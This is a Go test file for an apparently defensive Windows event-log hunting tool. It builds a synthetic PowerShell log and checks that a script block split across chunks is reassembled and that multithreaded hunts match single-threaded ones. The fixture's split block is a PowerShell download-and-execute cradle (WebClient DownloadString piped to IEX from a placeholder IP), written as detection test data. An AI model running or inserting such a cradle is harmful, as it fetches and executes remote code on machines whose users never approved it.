package hunt

import (
	"bytes"
	"context"
	"fmt"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/wuguard/wuguard/evtx"
	"github.com/wuguard/wuguard/internal/scripts"
	"github.com/wuguard/wuguard/internal/testcorpus"
)

// writeSplitScriptLog writes a PowerShell/Operational log of several chunks
// in which the three parts of one script block lie in different chunks,
// among filler blocks that are each whole, so that workers sharing the
// file's chunks each see only part of the block.
func writeSplitScriptLog(t *testing.T) string {
	path := filepath.Join(t.TempDir(), "Microsoft-Windows-PowerShell%4Operational.evtx")
	w, err := evtx.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	t0 := time.Date(2025, 4, 9, 10, 0, 0, 0, time.UTC)
	rec := 0
	write := func(n, total int, id, text string) {
		rec++
		ev := evtx.Event{System: evtx.System{
			Provider: "Microsoft-Windows-PowerShell", ProviderGUID: "{A0C1853B-5C40-4B15-8766-3CF1C58F985A}",
			EventID: 4104, Version: 1, Level: 5, Task: 2, Opcode: 15, TimeCreated: t0.Add(time.Duration(rec) * time.Second),
			Channel: "Microsoft-Windows-PowerShell/Operational", Computer: "PC1", UserID: "S-1-5-21-1-2-3-1001"},
			Fields: []evtx.Field{{Name: "MessageNumber", Value: fmt.Sprint(n)}, {Name: "MessageTotal", Value: fmt.Sprint(total)},
				{Name: "ScriptBlockText", Value: text}, {Name: "ScriptBlockId", Value: id}, {Name: "Path", Value: ""}}}
		if err := w.Write(&ev); err != nil {
			t.Fatal(err)
		}
	}
	filler := strings.Repeat("Get-ChildItem -Path C:\\Windows\\Temp | Sort-Object Length; ", 40)
	parts := []string{"$u = 'http://198.51.100.7/a.ps1'; ", "$s = (New-Object Net.WebClient).DownloadString($u); ", "IEX $s"}
	for p, text := range parts {
		for i := range 60 {
			write(1, 1, fmt.Sprintf("{filler-%d-%d}", p, i), filler)
		}
		write(p+1, len(parts), "{split-block}", text)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	f, err := evtx.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if f.NumChunks() < 3 {
		t.Fatalf("fixture has %d chunks, want the parts in different chunks", f.NumChunks())
	}
	return path
}

// huntJSONL hunts paths and renders the timeline as JSON lines.
func huntJSONL(t *testing.T, rules *Rules, paths []string, threads int) string {
	t.Helper()
	rep, err := Run(context.Background(), rules, paths, Options{Threads: threads, Scripts: scripts.NewAnalyzer(nil)}, nil)
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := Render(&b, "jsonl", rep, rules); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// TestThreadsShareOneFile: when a file's chunks are shared by several
// workers, the timeline is the same as with one, and a script block whose
// parts different workers read is still put together and analysed whole.
func TestThreadsShareOneFile(t *testing.T) {
	rules, err := LoadRules(nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	path := writeSplitScriptLog(t)
	want := huntJSONL(t, rules, []string{path}, 1)
	if !strings.Contains(want, `"script_block_id":"{split-block}","parts":3,"parts_expected":3`) {
		t.Fatalf("the split script block was not analysed whole:\n%.2000s", want)
	}
	for _, threads := range []int{2, 3, 8} {
		if got := huntJSONL(t, rules, []string{path}, threads); got != want {
			t.Errorf("threads %d: timeline differs from one thread", threads)
		}
	}
}

// TestThreadsShareCorpusFiles does the same on real logs of many chunks,
// with every SigmaHQ Windows rule.
func TestThreadsShareCorpusFiles(t *testing.T) {
	rules := &Rules{Set: loadCorpusRules(t)}
	evtxDir := testcorpus.Dir(t, "evtx")
	for _, rel := range []string{"omerbenamram/security.evtx", "evtx-attack-samples/AutomatedTestingTools/PanacheSysmon_vs_AtomicRedTeam01.evtx"} {
		path := filepath.Join(evtxDir, filepath.FromSlash(rel))
		want := huntJSONL(t, rules, []string{path}, 1)
		if strings.Count(want, "\n") < 5 {
			t.Fatalf("%s: only %d matches", rel, strings.Count(want, "\n"))
		}
		for _, threads := range []int{2, 4} {
			if got := huntJSONL(t, rules, []string{path}, threads); got != want {
				t.Errorf("%s, threads %d: timeline differs from one thread", rel, threads)
			}
		}
	}
}

// TestProgressReachesTheTotal: the last progress report counts every byte,
// event and file, however the file was shared out.
func TestProgressReachesTheTotal(t *testing.T) {
	rules, err := LoadRules(nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	path := writeSplitScriptLog(t)
	for _, threads := range []int{1, 3} {
		var last Progress
		rep, err := Run(context.Background(), rules, []string{path}, Options{Threads: threads, Progress: func(p Progress) { last = p }}, nil)
		if err != nil {
			t.Fatal(err)
		}
		if last.Bytes == 0 || last.BytesDone != last.Bytes || last.Events != rep.Events || last.FilesDone != 1 || rep.Events != 183 {
			t.Errorf("threads %d: last progress %+v, %d events hunted", threads, last, rep.Events)
		}
	}
}
